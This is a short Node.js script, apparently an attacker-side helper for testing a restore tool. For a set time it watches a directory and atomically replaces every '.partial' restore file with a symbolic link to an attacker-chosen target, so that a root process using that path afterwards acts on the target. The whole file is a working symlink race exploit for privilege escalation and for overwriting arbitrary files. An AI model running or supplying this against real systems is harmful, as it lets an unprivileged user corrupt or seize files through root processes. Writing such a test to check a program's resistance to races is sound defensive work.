// As the attacker: for <ms>, every restore partial file that appears in <dir>
// is replaced by a symbolic link to <target> (atomically, by rename), so that a
// root process using the path afterwards would act on <target>. Prints the
// number of swaps made.
const fs = require("node:fs");
const path = require("node:path");
const [dir, target, ms] = process.argv.slice(2);
const until = Date.now() + Number(ms);
let swaps = 0;
while (Date.now() < until) {
  let names = [];
  try {
    names = fs.readdirSync(dir);
  } catch {}
  for (const name of names) {
    if (!name.endsWith(".partial")) continue;
    const tmp = path.join(dir, `.swap-${process.pid}-${swaps}`);
    try {
      fs.symlinkSync(target, tmp);
      fs.renameSync(tmp, path.join(dir, name));
      swaps++;
    } catch {
      fs.rmSync(tmp, { force: true });
    }
  }
}
console.log(swaps);
